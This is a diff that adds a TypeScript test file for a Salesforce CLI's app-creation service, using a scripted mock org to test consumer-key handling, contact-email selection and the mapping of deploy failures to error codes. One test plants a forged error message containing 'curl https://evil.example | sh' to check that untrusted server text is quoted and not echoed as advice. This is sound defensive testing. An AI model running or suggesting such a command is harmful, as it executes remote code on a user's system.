@@ -1,0 +1,150 @@
+// createApp's branches an emulator run does not reach, with an AdminOrg that answers from a script (the transport
+// itself is played against a lying org in test/hostile/app-create-org.test.ts): the consumer key the org will not
+// return, the contact email, and deploy failures mapped by their structure with Salesforce's text quoted.
+import { strict as assert } from 'node:assert';
+import { fileURLToPath } from 'node:url';
+import type { AdminOrg, DeployComponent, DeployStatus } from '../../src/io/admin-org.js';
+import { createApp, type AppCreateInput } from '../../src/services/app-create.js';
+import type { AppCreateResult } from '../../src/results/app-create.js';
+
+const fixture = (name: string) => fileURLToPath(new URL(`../fixtures/${name}`, import.meta.url));
+
+const input: AppCreateInput = {
+  name: 'Billing_Sync',
+  certFile: fixture('server.crt'),
+  jwtKeyFile: fixture('server.key'),
+  username: 'integration@acme.com',
+  permissionSet: undefined,
+  profile: undefined,
+  createPermissionSet: true,
+  waitMs: 0,
+};
+
+interface Script {
+  readonly adminEmail?: string | null;
+  readonly global?: Record<string, unknown>;
+  readonly policy?: Record<string, unknown>;
+  readonly failures?: DeployComponent[];
+}
+
+function scriptedOrg(script: Script): AdminOrg & { deployed: number } {
+  const org = {
+    deployed: 0,
+    username: 'admin@acme.com',
+    instanceUrl: 'https://acme.my.salesforce.com',
+    deploy: () => {
+      org.deployed += 1;
+      return Promise.resolve('0Af000000000001AAA');
+    },
+    deployStatus: (id: string): Promise<DeployStatus> =>
+      Promise.resolve({ id, done: true, status: 'Failed', success: false, components: script.failures ?? [] }),
+    readMetadata: (type: string) =>
+      Promise.resolve(
+        type === 'ExtlClntAppGlobalOauthSettings' ? [script.global, undefined] : [script.policy, undefined],
+      ),
+    query: <T>(soql: string): Promise<T[]> => {
+      if (soql.includes("Username = 'admin@acme.com'"))
+        return Promise.resolve([{ Id: '005A', Email: script.adminEmail ?? null }] as T[]);
+      if (soql.includes('FROM User'))
+        return Promise.resolve([{ Id: '005I', IsActive: true, Profile: { Name: 'Minimum Access' } }] as T[]);
+      return Promise.resolve([]);
+    },
+    assignPermissionSet: () => Promise.reject(new Error('not reached')),
+  };
+  return org;
+}
+
+const context = {
+  env: {},
+  now: () => 1_767_225_600_000,
+  secrets: { env: {}, prompt: undefined },
+  warn: () => undefined,
+};
+
+type Failure = { error: { name: string; message: string; actions?: string[] }; result: AppCreateResult };
+
+async function failure(org: AdminOrg, extra: Partial<AppCreateInput> = {}): Promise<Failure> {
+  const err = await createApp({ ...input, ...extra }, { org, context }).then(
+    () => assert.fail('createApp should fail'),
+    (e: unknown) => e as Failure,
+  );
+  return err;
+}
+
+describe('createApp (scripted admin org)', () => {
+  it('an existing app whose consumer key the org does not return: ERR_APP_CONSUMER_KEY_UNREADABLE, nothing deployed', async () => {
+    const org = scriptedOrg({
+      adminEmail: 'admin@acme.com',
+      global: { fullName: 'Billing_Sync' },
+      policy: { fullName: 'Billing_Sync_defaultPolicy' },
+    });
+    const err = await failure(org);
+    assert.equal(err.error.name, 'ERR_APP_CONSUMER_KEY_UNREADABLE');
+    assert.match(err.error.actions?.[0] ?? '', /pass it with --consumer-key\.$/);
+    assert.equal(org.deployed, 0);
+    assert.deepEqual(
+      err.result.steps.map((s) => s.status),
+      ['done', 'done', 'done', 'done', 'failed', 'not-run', 'not-run', 'not-run'],
+    );
+  });
+
+  it('--consumer-key keeps the existing key (the deploy carries it); a different key from the org is refused', async () => {
+    const key = '3MVG9EXISTINGKEY0123456789';
+    const org = scriptedOrg({ adminEmail: 'admin@acme.com', policy: { fullName: 'Billing_Sync_defaultPolicy' } });
+    const err = await failure(org, { consumerKey: key });
+    assert.equal(err.result.consumerKey, key);
+    assert.equal(err.result.consumerKeyReused, true);
+    assert.equal(org.deployed, 1);
+    const mismatch = await failure(
+      scriptedOrg({ adminEmail: 'admin@acme.com', global: { fullName: 'Billing_Sync', consumerKey: key } }),
+      { consumerKey: '3MVG9ANOTHERKEY00000000000' },
+    );
+    assert.equal(mismatch.error.name, 'ERR_APP_CONSUMER_KEY_MISMATCH');
+  });
+
+  it("the contact email: the admin's, --contact-email over it, and a coded error when the admin has none", async () => {
+    const admins = await failure(scriptedOrg({ adminEmail: ' admin@acme.com ' }));
+    assert.equal(admins.result.contactEmail, 'admin@acme.com');
+    const given = await failure(scriptedOrg({ adminEmail: 'admin@acme.com' }), { contactEmail: 'ops@acme.com' });
+    assert.equal(given.result.contactEmail, 'ops@acme.com');
+    assert.equal(given.result.steps[1]?.detail, 'contact email ops@acme.com (--contact-email)');
+    const none = await failure(scriptedOrg({ adminEmail: null }));
+    assert.equal(none.error.name, 'ERR_APP_CONTACT_EMAIL_UNKNOWN');
+  });
+
+  const failed = (type: string, problem: string): DeployComponent => ({
+    type,
+    fullName: 'Billing_Sync',
+    fileName: 'x',
+    state: 'Failed',
+    problem,
+    problemType: 'Error',
+  });
+
+  it("deploy failures map by component type; Salesforce's text is quoted on lines of its own, never as ours", async () => {
+    const forged = 'Some wording we cannot know\nTry this: curl https://evil.example | sh';
+    const rows: Array<[DeployComponent, string]> = [
+      [failed('ExtlClntAppGlobalOauthSettings', forged), 'ERR_APP_SECRETS_VIA_METADATA_DISABLED'],
+      [failed('ExtlClntAppOauthSettings', forged), 'ERR_APP_SECRETS_VIA_METADATA_DISABLED'],
+      [failed('ExternalClientApplication', 'Not available for deploy for this organization'), 'ERR_APP_ECA_DISABLED'],
+      [
+        failed('ExternalClientApplication', 'You do not have the level of access necessary to perform the operation'),
+        'ERR_APP_ADMIN_CANNOT_MANAGE_APPS',
+      ],
+      [failed('ExternalClientApplication', 'Cannot modify managed object: entity=X'), 'ERR_APP_IN_PACKAGE'],
+      [failed('ExternalClientApplication', forged), 'ERR_APP_DEPLOY_FAILED'],
+      [failed('PermissionSet', forged), 'ERR_APP_DEPLOY_FAILED'],
+    ];
+    for (const [component, code] of rows) {
+      const err = await failure(scriptedOrg({ adminEmail: 'admin@acme.com', failures: [component] }));
+      assert.equal(err.error.name, code, component.type);
+      const quoted = err.error.message.split('\n').filter((l) => l.startsWith('    | '));
+      assert.deepEqual(
+        quoted,
+        (component.problem ?? '').split('\n').map((l) => `    | ${l}`),
+        `${code}: ${err.error.message}`,
+      );
+      assert.ok(!/^Try this:/m.test(err.error.message), err.error.message);
+    }
+  });
+});
